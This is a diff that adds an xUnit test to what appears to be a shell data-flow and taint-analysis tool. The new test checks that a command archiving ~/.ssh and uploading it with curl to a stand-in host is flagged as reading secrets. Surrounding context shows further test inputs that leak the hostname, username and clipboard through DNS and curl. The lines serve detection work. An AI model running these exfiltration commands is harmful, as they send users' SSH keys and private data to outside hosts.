@@ -265,6 +265,16 @@ public sealed class ShellDataFlowTests
     }
 
     [Fact]
+    public void ArchiveWrittenToStdoutIsTheDataOfThePipe()
+    {
+        var run = ShellRun.Of("tar czf - ~/.ssh | curl -s --upload-file - https://transfer.example/keys.tgz\n");
+
+        var upload = run.Call("curl").Named["-T"];
+        Assert.Equal("~/.ssh", upload.Taint("secret.read").Detail);
+        Assert.True(run.Call("curl").Stdin.HasTaint("secret.read"));
+    }
+
+    [Fact]
     public void HostInformationAndClipboardAreSources()
     {
         var run = ShellRun.Of("nslookup \"$(hostname).$(whoami).x.example\"\npbpaste | curl -d @- http://x\ncurl \"http://x/?u=$USER\"\n");
